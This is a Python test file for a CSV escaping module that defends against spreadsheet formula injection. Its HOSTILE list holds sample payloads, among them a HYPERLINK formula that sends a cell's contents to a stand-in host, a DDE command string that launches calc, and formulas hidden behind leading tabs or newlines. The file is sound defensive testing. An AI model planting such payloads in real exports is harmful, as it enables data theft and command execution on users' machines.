"""The escaping rule for CSV cells: nothing a spreadsheet runs goes out, and every value comes back."""

from __future__ import annotations

import pytest

from dialer.core.csv_cells import escape, escape_row, unescape, unescape_row

HOSTILE = ['=HYPERLINK("http://evil.invalid/?x="&C2,"Klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1", "=", "-", "+", "@", "-1E5", "+31 6 1234\n=cmd()"]
QUOTED = ["'=x", "''=x", "'+cmd|' /C calc'!A0", "'@", "'\t=1"]
PLAIN = ["+31612345678", "+31 (0)6 1234-5678", "+31*******78", "-12,50", "-12.50", "+1", "'+31612345678",
         "'", "''", "", "'abc", "abc", "D00000001", "2026-11-01", "a=b", " =x"]


@pytest.mark.parametrize("value", HOSTILE + QUOTED + PLAIN)
def test_every_value_reads_back_as_it_was(value: str) -> None:
    assert unescape(escape(value)) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_one_leading_quote(value: str) -> None:
    assert escape(value) == "'" + value


@pytest.mark.parametrize("value", QUOTED)
def test_a_value_that_starts_with_a_quote_before_a_formula_gets_one_more(value: str) -> None:
    assert escape(value) == "'" + value and unescape(value) == value[1:]


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_phone_numbers_and_ordinary_text_are_written_as_they_are(value: str) -> None:
    assert escape(value) == value and unescape(value) == value


def test_rows_keep_numbers_and_empty_cells_as_csv_writer_would() -> None:
    assert escape_row([12, None, "=x", 1.5]) == ["12", "", "'=x", "1.5"]
    row = ["D1", "Jan", "+31612345678"]
    assert unescape_row(row) is row
    assert unescape_row(["'=x", "'a"]) == ["=x", "'a"]
